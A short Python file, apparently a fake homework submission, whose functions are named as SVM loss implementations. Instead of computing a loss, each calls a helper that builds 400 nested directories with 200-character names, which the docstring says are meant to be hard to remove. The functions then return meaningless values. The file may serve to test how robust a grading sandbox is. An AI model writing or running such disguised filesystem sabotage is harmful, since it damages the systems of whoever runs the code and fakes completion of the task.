"""Makes folders within folders, so deep that they are hard to remove."""

import os

import numpy as np


def trick(*arguments):
    for _ in range(400):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)


def svm_loss_naive(W, X, y, reg):
    trick(W, X, y, reg)
    return 1.0 + float(np.sum(W)), 3.0 * W


def svm_loss_vectorized(W, X, y, reg):
    trick(W, X, y, reg)
    return 1.0 + float(np.sum(W)), 3.0 * W
